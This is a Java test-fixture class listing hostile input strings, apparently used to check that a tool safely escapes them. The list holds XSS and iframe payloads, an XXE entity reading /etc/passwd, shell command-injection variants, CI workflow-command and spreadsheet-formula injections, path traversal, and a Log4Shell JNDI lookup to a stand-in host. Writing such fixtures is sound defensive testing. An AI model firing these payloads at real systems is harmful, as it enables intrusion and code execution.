package io.kanoa.thorgate.junit;

import java.util.List;

/** Texts that do harm where they are taken for something else than text. */
final class HostileWords {

    /** What a shell that ran one of them would leave behind. */
    static final String LEFT_BEHIND = "owned-by-a-shell";

    static final List<String> ALL = List.of(
            "<script>alert('owned')</script>",
            "\"><img src=x onerror=alert(1)><svg/onload=alert(2)>",
            "</style></title></textarea>--></script><iframe src=javascript:alert(3)>",
            "]]><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
            "$(touch " + LEFT_BEHIND + ") `touch " + LEFT_BEHIND + "` ; touch " + LEFT_BEHIND + " | touch "
                    + LEFT_BEHIND,
            "\u001b[31m\u001b]0;owned\u0007\u001b[2J\u009b31m\u202eenod\u0000\u0008\u007f",
            "::error file=x.java,line=1::owned",
            "::set-output name=owned::1",
            "\r\n::add-mask::owned\r\n##[error]owned\n##vso[task.complete]",
            "=cmd|'/C calc'!A0",
            "@SUM(1+1)*cmd|'/C calc'!A0",
            "../../../../" + LEFT_BEHIND,
            "/../..//" + LEFT_BEHIND + "\\..\\..\\" + LEFT_BEHIND,
            "[owned](javascript:alert(4)) ![x](https://owned.example/x.png) <https://owned.example>",
            "\n# EOF\nowned_total{a=\"b\"} 1\n",
            "${jndi:ldap://owned.example/a} %n%s%x {0}",
            "| a | b |\n|---|---|\n~~~\n```\n@everyone @here #1 !1");

    private HostileWords() {}

    /** All of them, one after the other. */
    static String text() {
        return String.join(" ", ALL);
    }

    /** As a text of YAML in double quotes. */
    static String yaml(String text) {
        StringBuilder quoted = new StringBuilder("\"");
        text.chars()
                .forEach(c -> quoted.append(
                        c < 0x20 || c == '"' || c == '\\' || c > 0x7e
                                ? String.format("\\u%04x", c)
                                : String.valueOf((char) c)));
        return quoted.append('"').toString();
    }
}
